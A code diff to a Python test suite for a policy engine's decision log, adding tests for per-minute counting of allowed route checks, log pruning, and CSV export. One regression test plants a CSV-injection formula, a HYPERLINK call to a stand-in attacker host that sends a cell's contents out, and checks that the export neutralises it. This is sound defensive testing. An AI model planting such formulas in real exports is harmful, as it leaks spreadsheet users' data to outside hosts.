@@ -2,13 +2,21 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import shutil
+from datetime import UTC, datetime, timedelta
 from pathlib import Path
 from typing import Any
 
 import pytest
+from flask import Flask
+from sqlalchemy import select
 
+from app.core.tenancy import ALL_TENANTS
 from app.policy.engine import POLICY_DIR, PolicyEngine, PolicyError, Request
+from app.policy.log import DecisionLog
+from app.policy.models import PolicyDecisionCount
 from tests.support.world import World, services
 
 ENGINE = PolicyEngine()
@@ -202,8 +210,14 @@ def test_every_decision_is_counted_and_logged(world: World) -> None:
     routes = world.client.get(
         "/api/v1/policy/decisions?source=route&action=search", headers=world.headers("alice")
     ).get_json()["decisions"]
-    assert routes
-    assert routes[0]["decision"] == "allow"
+    assert routes == []  # allowed route checks are counted, not kept one by one
+    services(world.app).decisions.flush_counts()
+    counts = world.client.get(
+        "/api/v1/policy/decisions/counts", headers=world.headers("alice")
+    ).get_json()["counts"]
+    assert {(c["action"], c["principal_role"], c["decision"]) for c in counts} >= {
+        ("search", "admin", "allow")
+    }
     metrics = world.client.get("/metrics").get_data(as_text=True)
     assert (
         'summit_policy_decisions_total{action="read",decision="deny",source="api"} 1.0' in metrics
@@ -244,6 +258,21 @@ def test_decision_log_exports_as_csv(world: World) -> None:
     assert all(",deny,tenant-isolation," in line for line in lines[1:])
 
 
+def test_an_analysts_formula_is_text_in_the_admins_csv(world: World) -> None:
+    """Regression (OWASP CSV injection): an analyst's decide request planted
+    =HYPERLINK(...) that the admin's export printed for a spreadsheet to run."""
+    planted = '=HYPERLINK("https://evil.example/?"&A1,"open")'
+    body = {**CROSS_TENANT_READ, "principal": {"id": planted, "role": "analyst", "tenant": "acme"}}
+    assert decide(world, "bob", body).status_code == 200
+    services(world.app).decisions.flush()
+    export = world.client.get(
+        "/api/v1/policy/decisions/export.csv?source=api", headers=world.headers("alice")
+    ).get_data(as_text=True)
+    cells = next(csv.DictReader(io.StringIO(export)))
+    assert cells["principal_id"] == "'" + planted
+    assert not any(value.startswith(("=", "+", "-", "@")) for value in cells.values())
+
+
 def test_a_denied_route_is_logged_with_its_reason(world: World) -> None:
     assert world.client.get("/api/v1/search?q=x", headers=world.headers("ops")).status_code == 403
     assert (
@@ -261,3 +290,23 @@ def test_a_denied_route_is_logged_with_its_reason(world: World) -> None:
     assert [(row["caller"], row["action"], row["reasons"]) for row in rows] == [
         ("bob", "write", [])
     ]  # bob is acme's; ops has no tenant, so acme's admin does not see ops' decisions
+
+
+def test_route_allows_are_counted_per_minute_and_pruned_with_the_log(app: Flask) -> None:
+    """Regression: one row per request (~86 M a day at 1,000 req/s)."""
+    minute = datetime(2026, 11, 26, 12, 0, tzinfo=UTC)
+    clock = {"now": minute + timedelta(seconds=30)}
+    log = DecisionLog(services(app).db, clock=lambda: clock["now"], flush_every=3600,
+                      retention=timedelta(days=1))  # fmt: skip
+    allow = {"source": "route", "decision": "allow", "tenant_id": None, "at": clock["now"],
+             "action": "read", "principal_role": "operator"}  # fmt: skip
+    for _ in range(1000):
+        log.record(allow)
+    assert log.flush() == 0  # the minute is not over: nothing written yet
+    clock["now"] = minute + timedelta(minutes=1, seconds=1)
+    assert log.flush() == 1  # a thousand checks, one row
+    with services(app).db.session(tenant_id=ALL_TENANTS) as session:
+        assert session.scalars(select(PolicyDecisionCount.count)).all() == [1000]
+    clock["now"] = minute + timedelta(days=2)
+    assert log.prune() == 1
+    log.close()
